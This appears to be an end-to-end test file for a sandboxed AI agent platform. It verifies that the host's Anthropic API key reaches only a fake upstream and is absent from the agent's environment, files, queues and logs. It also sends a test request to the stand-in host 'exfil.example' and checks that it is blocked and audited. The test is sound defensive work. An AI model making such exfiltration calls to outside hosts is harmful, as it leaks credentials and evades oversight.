/**
 * The model credential stays on the host. A fake Anthropic key is set in the
 * control plane's environment (where `envCredentials` reads it); an agent on
 * the `anthropic` provider answers through the host's model proxy, which
 * forwards to a local fake of the Messages API. The fake upstream receives
 * the key; the agent never holds it: not in its environment or argv, not in
 * any file under the state directory or the key copies (its workspace,
 * memory, queues, sockets' directory, logs and launch bundle), and not in
 * any queue row. A request through the session's socket to a host off the
 * allowlist is refused with 403 and audited.
 */
import assert from "node:assert/strict";
import { type LogRecord, reset } from "@logtape/logtape";
import { MODEL_SOCKET_NAME } from "../../contract/sockets.ts";
import { openInboundReader } from "../../contract/queue/sandbox.ts";
import { CONSOLE_USER_ID } from "../../src/control_plane/mod.ts";
import { configureLogging } from "../../src/log/mod.ts";
import { sessionDirs } from "../../src/sandbox/mod.ts";
import { unixSocketFetch } from "../support/model_proxy_unix_fetch.ts";
import { LIBRARY, tempDir } from "../support/mod.ts";
import { diagnose, nextReplies } from "./harness.ts";
import { openPlane } from "./plane.ts";
import { answered, sentSession } from "../support/api.ts";
import { runscWorks } from "../support/runsc.ts";

const AGENT = "claude";

/** A local stand-in for api.anthropic.com: records each request and answers with one text block. */
function fakeAnthropic() {
  const seen: { path: string; apiKey: string | null; authorization: string | null }[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    seen.push({
      path: new URL(req.url).pathname,
      apiKey: req.headers.get("x-api-key"),
      authorization: req.headers.get("authorization"),
    });
    await req.body?.cancel();
    return Response.json({
      id: "msg_upstream",
      type: "message",
      role: "assistant",
      model: "claude-fake",
      content: [{ type: "text", text: "upstream says hi" }],
      stop_reason: "end_turn",
      stop_sequence: null,
      usage: { input_tokens: 1, output_tokens: 1 },
    });
  });
  return { seen, url: `http://127.0.0.1:${server.addr.port}`, close: () => server.shutdown() };
}

/** Every regular file under `root` (symlinks not followed). */
function* filesUnder(root: string): Generator<string> {
  let entries: Deno.DirEntry[];
  try {
    entries = [...Deno.readDirSync(root)];
  } catch {
    return;
  }
  for (const e of entries) {
    const path = `${root}/${e.name}`;
    if (e.isDirectory) yield* filesUnder(path);
    else if (e.isFile) yield path;
  }
}

/** Whether `needle` occurs in `haystack`. */
function bytesInclude(haystack: Uint8Array, needle: Uint8Array): boolean {
  for (let i = haystack.indexOf(needle[0]); i >= 0; i = haystack.indexOf(needle[0], i + 1)) {
    if (i + needle.length > haystack.length) return false;
    let j = 1;
    while (j < needle.length && haystack[i + j] === needle[j]) j++;
    if (j === needle.length) return true;
  }
  return false;
}

/**
 * Files larger than this are skipped: the sparse disk images behind the
 * workspace and memory volumes (a GiB, mostly holes), whose contents the
 * scan reads through the mounted directories instead.
 */
const SCAN_CAP_BYTES = 64 << 20;

/** The files among `roots` whose bytes hold `needle` (as text, or base64 of it). */
function filesHolding(roots: string[], needle: string): string[] {
  const forms = [needle, btoa(needle)].map((f) => new TextEncoder().encode(f));
  const hits: string[] = [];
  for (const root of roots) {
    for (const path of filesUnder(root)) {
      if (Deno.statSync(path).size > SCAN_CAP_BYTES) continue;
      const bytes = Deno.readFileSync(path);
      if (forms.some((f) => bytesInclude(bytes, f))) hits.push(path);
    }
  }
  return hits;
}

/** Pids of live processes whose command line holds `marker`. */
function processesWith(marker: string): number[] {
  const pids: number[] = [];
  for (const e of Deno.readDirSync("/proc")) {
    if (!/^\d+$/.test(e.name)) continue;
    try {
      if (Deno.readTextFileSync(`/proc/${e.name}/cmdline`).includes(marker)) pids.push(Number(e.name));
    } catch { /* gone */ }
  }
  return pids;
}

async function credentialStaysOnHost(isolator: "process" | "runsc") {
  const secret = `sk-ant-fake-${crypto.randomUUID()}`;
  const previous = Deno.env.get("ANTHROPIC_API_KEY");
  Deno.env.set("ANTHROPIC_API_KEY", secret);
  const logs: LogRecord[] = [];
  await configureLogging({ sink: (r) => void logs.push(r), level: "debug" });
  const upstream = fakeAnthropic();
  using dir = tempDir("ironclaw-e2e-");
  try {
    await using host = await openPlane(dir.path, {
      isolator,
      upstreams: [{ host: "api.anthropic.com", baseUrl: upstream.url }],
    });
    host.plane.registry.putAgentGroup({ id: AGENT, name: "Claude agent", provider: "anthropic" });
    host.plane.registry.addMember(CONSOLE_USER_ID, AGENT);
    const sent = await answered(
      host.api.v1.ui.chat.send.$post({ json: { agentGroupId: AGENT, text: "hello upstream" } }),
    );
    assert.equal(sent.status, 202, JSON.stringify(sent.body));
    const sessionId = sentSession(sent.body);
    assert.deepEqual(await nextReplies(host, sent.body.chatId), ["upstream says hi"]);

    // The upstream got the key, injected by the host.
    assert.ok(upstream.seen.length >= 1);
    assert.ok(upstream.seen.every((r) => r.path === "/v1/messages"), JSON.stringify(upstream.seen));
    assert.ok(upstream.seen.every((r) => r.apiKey === secret), "the proxy injects the host's key");

    // Not in the agent's environment or argv (the process backend's agent is a host process we can read).
    const dirs = sessionDirs(`${dir.path}/sandbox`, sessionId, AGENT);
    if (isolator === "process") {
      const pids = processesWith(dirs.socketDir);
      assert.ok(pids.length >= 1, `the agent process is found: ${await diagnose(host)}`);
      for (const pid of pids) {
        const environ = Deno.readTextFileSync(`/proc/${pid}/environ`);
        const cmdline = Deno.readTextFileSync(`/proc/${pid}/cmdline`);
        assert.ok(
          !environ.includes(secret) && !environ.includes("ANTHROPIC_API_KEY"),
          "not in its environment",
        );
        assert.ok(!cmdline.includes(secret), "not in its argv");
      }
    }

    // Not in any file under the state directory (workspace, memory, queues, sockets, logs, bundles, key copies
    // under it) nor among the key copies elsewhere.
    const keyRoots = [`/dev/shm/ironclaw-keys-${Deno.uid()}`];
    const runtime = Deno.env.get("XDG_RUNTIME_DIR");
    if (runtime) keyRoots.push(`${runtime}/ironclaw-keys`);
    // The workspace may be empty (the heartbeat lives beside the outbound queue): the agent's own queue proves it.
    const outboundQueue = host.plane.queues.paths(sessionId).outbound;
    assert.ok([...filesUnder(dir.path)].includes(outboundQueue), "the scan reaches the agent's files");
    assert.deepEqual(filesHolding([dir.path, ...keyRoots], secret), []);

    // Not in any queue row, either way, nor in the agent's saved state.
    const key = await host.plane.queues.sessionKey(sessionId);
    {
      using inbound = openInboundReader(host.plane.queues.paths(sessionId).inbound, {
        library: LIBRARY,
        key,
      });
      assert.ok(!JSON.stringify([inbound.pendingMessages(), inbound.sessionRouting()]).includes(secret));
    }
    const outbound = await host.plane.queues.outboundReader(sessionId);
    const rows = JSON.stringify([outbound.dueMessages(), outbound.processingAcks(), outbound.sessionState()]);
    assert.ok(rows.includes("upstream says hi"), "the scan reads the real rows");
    assert.ok(!rows.includes(secret));

    // Off the allowlist: 403 through the session's own socket, and an audit record of the refusal.
    using socket = unixSocketFetch(`${dirs.socketDir}/${MODEL_SOCKET_NAME}`);
    const refused = await socket.fetch("http://exfil.example/v1/messages", { method: "POST", body: "{}" });
    assert.equal(refused.status, 403);
    assert.match(await refused.text(), /not on allowlist/);
    const audited = logs.filter((r) =>
      r.category.join(".") === "ironclaw.model-proxy" && r.properties.host === "exfil.example"
    );
    assert.equal(audited.length, 1, "one audit line for the refused request");
    assert.equal(audited[0].properties.status, 403);
    assert.equal(audited[0].properties.allowed, false);
    assert.equal(audited[0].properties.session, sessionId);
    assert.ok(
      logs.some((r) => r.properties.host === "api.anthropic.com" && r.properties.status === 200),
      "the allowed call was audited too",
    );
    assert.ok(
      !JSON.stringify(logs.map((r) => [r.message, r.properties])).includes(secret),
      "no log holds it",
    );
  } finally {
    await upstream.close();
    await reset();
    if (previous === undefined) Deno.env.delete("ANTHROPIC_API_KEY");
    else Deno.env.set("ANTHROPIC_API_KEY", previous);
  }
}

Deno.test("e2e (process backend): the model key reaches the upstream, never the agent; off-allowlist is 403 and audited", () =>
  credentialStaysOnHost("process"));

Deno.test({
  name:
    "e2e (runsc backend): the model key reaches the upstream, never the gVisor agent; off-allowlist is 403 and audited",
  ignore: !(await runscWorks()),
  fn: () => credentialStaysOnHost("runsc"),
});
